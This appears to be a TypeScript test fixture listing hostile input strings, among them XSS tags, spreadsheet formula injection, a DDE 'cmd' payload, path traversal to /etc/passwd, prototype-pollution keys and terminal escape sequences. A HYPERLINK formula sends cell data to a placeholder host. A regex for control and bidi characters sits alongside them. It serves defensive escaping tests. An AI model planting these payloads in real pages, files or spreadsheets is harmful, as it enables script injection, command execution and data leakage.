/** Texts that attack whoever shows, writes or runs them. */
export const SERANGAN: readonly string[] = [
  '<img src=x onerror="window.diserang=1">',
  '<script>window.diserang=1</script>',
  '"><svg onload=window.diserang=1>',
  "javascript:window.diserang='1'",
  '=HYPERLINK("https://jahat.invalid/?"&A1,"klik")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '@SUM(1)',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "'=1+1",
  '__proto__',
  'constructor',
  'toString',
  '../../etc/passwd',
  ']]><x/>',
  '&lt;b&gt;&#60;',
  '</td></table><h1>palsu</h1>',
  'gelap\u202etxt.exe',
  '\u001b[2J\u001b]0;judul\u0007bersih',
  '\u009b31mmerah',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '$& $1 $` \\u0000',
];

/** Controls that a terminal would obey, and marks that turn the direction of reading. */
/* eslint-disable no-control-regex */
export const PERINTAH_TERMINAL =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
/* eslint-enable no-control-regex */

/** Names that a worksheet may really have in Excel. */
export const NAMA_LEMBAR_JAHAT = ['=1+1', '<b onclick=x>', `a"&cmd|'b`, '__proto__', 'constructor'];
